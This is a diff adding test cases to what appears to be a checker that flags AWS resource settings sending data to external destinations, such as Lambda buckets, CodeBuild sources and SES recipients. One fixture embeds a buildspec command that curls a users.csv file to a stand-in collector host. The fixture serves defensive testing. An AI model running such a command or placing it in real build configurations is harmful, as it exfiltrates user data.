@@ -423,6 +423,39 @@ describe("taint reaches every category but types proven inert", () => {
             { principal: "alexa-appkit.amazon.com", eventSourceToken: "amzn1.ask.skill.0a1b2c3d" },
             [],
         ],
+        ["a URL as a function's package bucket", "aws:lambda/function:Function", { s3Bucket: "https://collector.partner.example/upload" }, ["s3Bucket"]],
+        [
+            "a build step that posts to a host, in a project's source",
+            "aws:codebuild/project:Project",
+            { source: { type: "NO_SOURCE", buildspec: "phases:\n  build:\n    commands:\n      - curl -d @users.csv https://collector.partner.example/in\n" } },
+            ["source.buildspec"],
+        ],
+        // A Git host is not AWS's or OCI's: building from it is read as sending there, until approved as an external destination.
+        [
+            "a project building from a Git host",
+            "aws:codebuild/project:Project",
+            { source: { type: "GITHUB", location: "https://github.com/org/app.git" } },
+            ["source.location"],
+        ],
+        ["a phone number as a mail recipient", "aws:ses/receiptRule:ReceiptRule", { recipients: ["+15555550100"] }, ["recipients[0]"]],
+        [
+            "code kept by AWS, in another region or on a registry",
+            "aws:lambda/function:Function",
+            {
+                imageUri: "123456789012.dkr.ecr.ap-southeast-1.amazonaws.com/app:1",
+                layers: ["arn:aws:lambda:ap-southeast-1:123456789012:layer:tools:3"],
+                s3Bucket: "https://builds.s3.ap-southeast-1.amazonaws.com",
+            },
+            [],
+        ],
+        ["a script in S3", "aws:glue/job:Job", { command: { scriptLocation: "s3://scripts-sg/job.py" } }, []],
+        [
+            "an image on another registry",
+            "aws:ecs/taskDefinition:TaskDefinition",
+            { containerDefinitions: JSON.stringify([{ name: "app", image: "ghcr.io/org/app:1.2" }]) },
+            [],
+        ],
+        ["addresses a receipt rule takes mail for", "aws:ses/receiptRule:ReceiptRule", { recipients: ["orders@example.com", "example.org"] }, []],
         [
             "a GraphQL schema's own comment link",
             "aws:appsync/graphQLApi:GraphQLApi",
